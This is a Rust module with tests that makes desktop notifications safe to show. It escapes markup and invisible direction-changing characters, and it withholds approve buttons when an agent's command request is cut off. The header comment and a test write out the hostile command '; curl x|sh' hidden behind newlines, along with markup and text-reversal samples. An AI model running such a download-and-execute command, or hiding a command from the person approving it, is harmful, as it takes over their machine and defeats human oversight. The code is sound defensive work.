//! What a desktop notification may show of text that others wrote: a question from an agent
//! (often a command it asks to run), a mention.
//!
//! Why: notification servers interpret markup in the body (`<b>`, `<a href>`, `<img>`) and
//! show only the first lines of it. An agent asking "may I run this?" with forty newlines
//! before `;curl x|sh` would have the person allow a command they never saw. Here markup is
//! escaped, control and direction-changing characters are shown as escapes, a cut is
//! marked, and a question's answers are offered as buttons only when the whole of it shows.

/// How many characters a notification's body shows, escapes included (about what a
/// notification server shows of an expanded notification without cutting it).
pub const VISIBLE_CHARS: usize = 240;

/// A notification's text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NotificationText {
    /// Plain text (servers show the summary without markup).
    pub summary: String,
    /// Markup-escaped.
    pub body: String,
    /// Whether the whole text shows (nothing was cut): only then may it be answered from
    /// the notification.
    pub whole: bool,
}

/// The notification of a text someone else wrote: `summary` says who and where (names are
/// shown as they are, control characters escaped), `text` is theirs.
pub fn of(summary: &str, text: &str) -> NotificationText {
    let shown = visible(text, VISIBLE_CHARS);
    let mut body = markup_escaped(&shown.text);
    let whole = shown.left_out == 0;
    if !whole {
        body.push_str(&format!(
            " … [cut: {} more characters; open Roundtable to read it all]",
            shown.left_out
        ));
    }
    NotificationText {
        summary: visible(summary, 120).text,
        body,
        whole,
    }
}

/// The answer buttons of a question (index of the option, label): none unless the whole
/// question shows and every option shows whole.
pub fn answer_buttons(text: &NotificationText, options: &[String]) -> Vec<(usize, String)> {
    if !text.whole {
        return Vec::new();
    }
    let mut buttons = Vec::new();
    for (index, option) in options.iter().enumerate() {
        let shown = visible(option, 40);
        if shown.left_out > 0 {
            return Vec::new();
        }
        buttons.push((index, shown.text));
    }
    buttons
}

/// What shows of a text.
struct Shown {
    text: String,
    /// Characters of the original not shown.
    left_out: usize,
}

/// `text` with every control, format and direction-changing character written as an
/// escape, cut to `limit` characters of that.
fn visible(text: &str, limit: usize) -> Shown {
    let mut shown = String::new();
    let mut count = 0;
    for (taken, c) in text.chars().enumerate() {
        let piece = escape(c);
        let width = piece
            .as_deref()
            .map_or(1, |escaped| escaped.chars().count());
        if count + width > limit {
            return Shown {
                text: shown,
                left_out: text.chars().count() - taken,
            };
        }
        count += width;
        match piece {
            Some(escaped) => shown.push_str(&escaped),
            None => shown.push(c),
        }
    }
    Shown {
        text: shown,
        left_out: 0,
    }
}

/// The escape a character is shown as, when it is not shown as itself.
fn escape(c: char) -> Option<String> {
    match c {
        '\n' => Some("\\n".to_owned()),
        '\r' => Some("\\r".to_owned()),
        '\t' => Some("\\t".to_owned()),
        c if c.is_control() || is_invisible_format(c) => Some(format!("\\u{{{:x}}}", c as u32)),
        _ => None,
    }
}

/// Characters that change how text around them reads without showing themselves:
/// direction overrides and isolates, zero-width characters, the byte-order mark.
fn is_invisible_format(c: char) -> bool {
    matches!(
        c,
        '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{061c}'
    )
}

/// `text` with the characters notification markup reads escaped.
fn markup_escaped(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => escaped.push_str("&amp;"),
            '<' => escaped.push_str("&lt;"),
            '>' => escaped.push_str("&gt;"),
            '"' => escaped.push_str("&quot;"),
            '\'' => escaped.push_str("&#39;"),
            c => escaped.push(c),
        }
    }
    escaped
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_hidden_past_newlines_shows_and_cannot_be_allowed_from_the_notification() {
        let command = format!("ls{}; curl x|sh", "\n".repeat(40));
        let text = of(
            "dana/writer asks, in Home",
            &format!("May I run `{command}`?"),
        );
        // Every newline is visible, and the end of the command too: it fits.
        assert!(text.body.contains("\\n\\n\\n"), "{}", text.body);
        assert!(text.body.contains("; curl x|sh"), "{}", text.body);
        assert!(text.whole);
        // Longer, it is cut, says so, and offers no answer.
        let long = format!("ls{}; curl x|sh", "\n".repeat(400));
        let text = of("dana/writer asks, in Home", &format!("May I run `{long}`?"));
        assert!(!text.whole);
        assert!(!text.body.contains("curl"), "{}", text.body);
        assert!(text.body.contains("[cut: "), "{}", text.body);
        let options = ["Allow".to_owned(), "Deny".to_owned()];
        assert!(answer_buttons(&text, &options).is_empty());
        let short = of("dana/writer asks, in Home", "May I run `ls`?");
        assert_eq!(
            answer_buttons(&short, &options),
            vec![(0, "Allow".to_owned()), (1, "Deny".to_owned())]
        );
    }

    #[test]
    fn markup_and_invisible_characters_are_shown_for_what_they_are() {
        let text = of(
            "sam <b>boss</b>",
            "<a href=\"https://x\">ok</a> & \u{202e}hs.x\u{202c} \u{1b}[2J",
        );
        assert_eq!(
            text.body,
            "&lt;a href=&quot;https://x&quot;&gt;ok&lt;/a&gt; &amp; \\u{202e}hs.x\\u{202c} \\u{1b}[2J"
        );
        // The summary is plain text to the server: shown as written, control characters
        // escaped.
        assert_eq!(text.summary, "sam <b>boss</b>");
        assert_eq!(of("a\nb", "x").summary, "a\\nb");
    }

    #[test]
    fn the_cut_counts_what_was_left_out() {
        let text = of("s", &"é".repeat(VISIBLE_CHARS + 10));
        assert!(
            text.body
                .ends_with("[cut: 10 more characters; open Roundtable to read it all]"),
            "{}",
            text.body
        );
    }

    #[test]
    fn an_option_too_long_to_show_takes_every_button_away() {
        let text = of("s", "May I?");
        let options = ["Allow".to_owned(), format!("Allow {}", "x".repeat(60))];
        assert!(answer_buttons(&text, &options).is_empty());
    }
}
